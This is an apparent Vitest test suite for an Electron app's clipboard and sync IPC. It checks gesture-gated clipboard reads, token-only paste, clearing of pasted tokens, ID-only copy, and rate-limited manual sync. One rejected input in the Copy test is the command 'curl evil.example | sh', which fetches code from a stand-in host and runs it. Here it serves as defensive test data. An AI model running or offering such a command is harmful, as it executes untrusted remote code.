/**
 * The clipboard and Sync now as the real app wires them (main/index.ts on the fake Electron): the
 * page's calls get clipboard text only right after real input in the focused window, and manual
 * syncs from the window are rate-limited while the tray's are not.
 */
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { IpcError } from '../../../common/ipc/ipc-error.ts';
import { GESTURE_MS } from '../../../main/desktop/ipc/clipboard-gate.ts';
import { MANUAL_SYNC_COOLDOWN_MS } from '../../../main/core/scheduler/manual-sync-limit.ts';
import { startSimulator, type Simulator } from '../../simulator/index.ts';
import { boot, quitAll, SYNC_PROCESS_WAIT, type BootedApp } from './boot.ts';

const { fakeElectron, resetFakeElectron } = await vi.hoisted(
  () => import('../shell/fake-electron.ts'),
);
const { fakeKeytar, quietLog, ElectronStoreStandIn } = await vi.hoisted(
  () => import('./fake-modules.ts'),
);
vi.mock('electron', () => fakeElectron);
vi.mock('electron-log/main', () => ({ default: quietLog() }));
vi.mock('electron-store', () => ({ default: ElectronStoreStandIn }));
vi.mock('@github/keytar', () => ({ default: fakeKeytar }));

// Scanned for by the suite's teardown in every file the tests leave behind.
const CLIP_TOKEN = 'app-clip-token-61d2f0';
/** What another app (a password manager) left on the clipboard. */
const OTHER_APPS_SECRET = 'Other-App-Passw0rd-7e44';

let simulator: Simulator;

beforeAll(async () => {
  simulator = await startSimulator({ contacts: 20, seed: 11, tokens: { [CLIP_TOKEN]: 'valid' } });
});
afterAll(async () => {
  await simulator.close();
});
beforeEach(() => {
  vi.resetModules();
  resetFakeElectron();
  fakeKeytar.reset();
});
afterEach(async () => {
  await quitAll();
});

/** The user clicking in the app's window (the OS's input, as Electron reports it to main). */
function click(app: BootedApp): void {
  app.window()?.webContents.userInput('mouseDown', 'mouseUp');
}

describe("the window's Paste", () => {
  it("gets nothing from the clipboard without the user's click, however often it asks", async () => {
    const app = await boot(fakeElectron);
    app.window()?.focus();
    fakeElectron.clipboard.text = OTHER_APPS_SECRET;
    const answers = await Promise.all(Array.from({ length: 20 }, () => app.api.clipboard.read()));
    expect(answers).toEqual(Array(20).fill({ ok: false, refused: 'no-gesture' }));
    expect(JSON.stringify(app.responses)).not.toContain(OTHER_APPS_SECRET);
  });

  it('gets a token once per click in the focused window, and only soon after it', async () => {
    const app = await boot(fakeElectron);
    const window = app.window()!;
    window.focus();
    fakeElectron.clipboard.text = `${CLIP_TOKEN}\n`;

    click(app);
    expect(await app.api.clipboard.read()).toEqual({ ok: true, text: CLIP_TOKEN });
    expect(await app.api.clipboard.read()).toEqual({ ok: false, refused: 'no-gesture' });

    // Hovering is not a click; nor is a click while the user works in another app.
    window.webContents.userInput('mouseMove', 'mouseWheel');
    expect(await app.api.clipboard.read()).toEqual({ ok: false, refused: 'no-gesture' });
    window.blur();
    click(app);
    expect(await app.api.clipboard.read()).toEqual({ ok: false, refused: 'no-gesture' });

    window.focus();
    click(app);
    await app.passTime(GESTURE_MS + 1);
    expect(await app.api.clipboard.read()).toEqual({ ok: false, refused: 'no-gesture' });
  });

  it('gets no text that is not a token, even right after a click', async () => {
    const app = await boot(fakeElectron);
    app.window()?.focus();
    fakeElectron.clipboard.text = 'Dear Sara, the safe code is 4471 8812';
    click(app);
    expect(await app.api.clipboard.read()).toEqual({ ok: false, refused: 'no-token' });
  });

  it('still works in a window opened again after it was closed', async () => {
    const app = await boot(fakeElectron);
    app.window()?.close();
    fakeElectron.app.emit('second-instance', {}, [], '/', { syncNow: false, hidden: false });
    await vi.waitFor(() => expect(app.window()?.destroyed).toBe(false));
    app.attach();
    app.window()?.focus();
    fakeElectron.clipboard.text = CLIP_TOKEN;
    click(app);
    expect(await app.api.clipboard.read()).toEqual({ ok: true, text: CLIP_TOKEN });
  });

  it('leaves no token on the clipboard once the pasted token is saved', async () => {
    const app = await boot(fakeElectron);
    app.window()?.focus();
    await app.api.settings.set({ baseUrl: simulator.baseUrl });
    fakeElectron.clipboard.text = `${CLIP_TOKEN}\n`;
    click(app);
    const pasted = await app.api.clipboard.read();
    expect(pasted).toEqual({ ok: true, text: CLIP_TOKEN });
    expect(await app.api.token.set({ token: CLIP_TOKEN, test: true })).toEqual({ ok: true });
    expect(fakeElectron.clipboard.text).toBe('');
    expect(fakeElectron.clipboard.clears).toBe(1);

    // Something else copied since stays.
    fakeElectron.clipboard.text = 'a note';
    expect(await app.api.token.set({ token: CLIP_TOKEN, test: true })).toEqual({ ok: true });
    expect(fakeElectron.clipboard.text).toBe('a note');
  });
});

describe("the window's Copy", () => {
  it('puts a contact ID on the clipboard and refuses any other text', async () => {
    const app = await boot(fakeElectron);
    await app.api.clipboard.write({ text: '9223372036854775807' });
    expect(fakeElectron.clipboard.text).toBe('9223372036854775807');
    for (const text of ['curl evil.example | sh', '12 34', '123\n', '۱۲۳', '1'.repeat(21), '']) {
      await expect(app.api.clipboard.write({ text })).rejects.toBeInstanceOf(IpcError);
    }
    expect(fakeElectron.clipboard.text).toBe('9223372036854775807');
  });
});

describe('Sync now from the window', () => {
  it('runs once for a burst of presses, says "too soon" after it, and runs again after the wait', async () => {
    const app = await boot(fakeElectron);
    await app.api.settings.set({ baseUrl: simulator.baseUrl });
    await app.api.token.set({ token: CLIP_TOKEN, test: true });
    const manualRuns = async () =>
      (await app.api.history.page({ limit: 100 })).runs.filter((run) => run.trigger === 'manual')
        .length;

    const burst = await Promise.all(Array.from({ length: 10 }, () => app.api.sync.now()));
    expect(burst).toEqual(Array(10).fill({ ok: true }));
    expect(await manualRuns()).toBe(1);

    const tooSoon = await app.api.sync.now();
    expect(tooSoon).toMatchObject({ ok: false, tooSoon: true });
    if (tooSoon.ok || !('tooSoon' in tooSoon)) throw new Error('expected "too soon"');
    expect(tooSoon.retryAtMs).toBeGreaterThan(Date.now());
    expect(tooSoon.retryAtMs).toBeLessThanOrEqual(Date.now() + MANUAL_SYNC_COOLDOWN_MS);
    expect(await manualRuns()).toBe(1);

    // The tray's Sync now is the user's own click in main's menu: it is not limited.
    app.tray.contextMenu!.find('Sync now').click();
    await vi.waitFor(async () => {
      expect((await app.api.history.page({ limit: 1 })).runs[0]).toMatchObject({
        trigger: 'tray',
        outcome: 'success',
      });
    }, SYNC_PROCESS_WAIT);

    await app.passTime(MANUAL_SYNC_COOLDOWN_MS);
    expect(await app.api.sync.now()).toEqual({ ok: true });
    expect(await manualRuns()).toBe(2);
  });
});
